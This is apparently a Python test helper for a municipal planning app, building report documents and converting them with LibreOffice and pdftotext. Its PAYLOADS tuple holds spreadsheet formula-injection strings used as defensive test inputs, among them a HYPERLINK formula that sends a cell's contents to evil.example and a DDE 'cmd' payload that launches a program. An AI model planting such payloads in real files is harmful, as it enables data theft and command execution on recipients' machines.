"""The paper of report_case as bytes, and LibreOffice to look at them with."""

import os
import shutil
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path

from flask import Flask
from flask_babel import Babel

from planner.charts.png import to_png, with_colours
from planner.domain.basis import Basis
from planner.domain.decision import Change
from planner.domain.decision_document import read
from planner.domain.report_decided import Replaced, adopted
from planner.files import handlingsdel, saksframlegg, saksframlegg_pdf
from planner.services.report_pictures import pictures
from planner.wording.paper import Paper
from planner.wording.report import Kept, paper
from tests import decision_case
from tests.report_case import BASIS, make_report

KEPT_AT = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)

# What people type into cells to make another's spreadsheet run it, or to break a file.
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"klikk")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "http://evil.example/x",
    "mailto:a@evil.example",
    "{=1+1}",
    "internal:Ark2!A1",
)


def make(basis: Basis = BASIS, language: str = "nb") -> Paper:
    with _language(language):
        tables = make_report(basis)
        return paper(tables, Kept(1, "Førsteutkast", KEPT_AT), pictures(tables))


def make_decided(language: str = "nb", replaced: Replaced | None = None) -> Paper:
    """The same once the council has decided it and taken C in, which breaks the frame. Nobody has written in it."""
    there = read(decision_case.document((Change("C", "in", 2029, "Ungdommen ba om det"),), anyway="Det er penger nok"))
    with _language(language):
        tables = make_report(BASIS)
        which = Kept(1, "Førsteutkast", KEPT_AT)
        return paper(tables, which, pictures(tables), None, adopted(there, tables, replaced))


@contextmanager
def _language(code: str) -> Iterator[None]:
    app = Flask("paper")
    Babel(app, default_locale=code)
    with app.test_request_context():
        yield


def word(made: Paper) -> bytes:
    return saksframlegg.write(made, {picture.svg: to_png(picture.svg) for picture in made.pictures}, KEPT_AT)


def pdf(made: Paper) -> bytes:
    return saksframlegg_pdf.write(made, {one.svg: with_colours(one.svg) for one in made.pictures}, KEPT_AT)


def book(made: Paper) -> bytes:
    return handlingsdel.write(made, KEPT_AT)


def as_pdf(content: bytes, name: str, folder: Path) -> Path:
    """The file printed by LibreOffice."""
    return converted(content, name, "pdf", folder)


def converted(content: bytes, name: str, ending: str, folder: Path) -> Path:
    """The file as LibreOffice makes it another, with a profile of its own so that tests never share one."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    assert office, (
        "LibreOffice is needed for this test: apt-get install libreoffice-writer libreoffice-calc poppler-utils"
    )
    file = folder / name
    file.write_bytes(content)
    made = folder / "made"
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [office, profile, "--headless", "--convert-to", ending, "--outdir", str(made), str(file)]
    done = subprocess.run(
        command, capture_output=True, text=True, timeout=180, check=False, env={**os.environ, "HOME": str(folder)}
    )
    found = made / file.with_suffix(f".{ending}").name
    assert found.exists(), f"LibreOffice could not open {name}: {done.stderr}"
    return found


def read_pdf(pdf: Path, *options: str) -> str:
    """Its text as poppler reads it."""
    return subprocess.run(["pdftotext", *options, str(pdf), "-"], capture_output=True, text=True, check=True).stdout
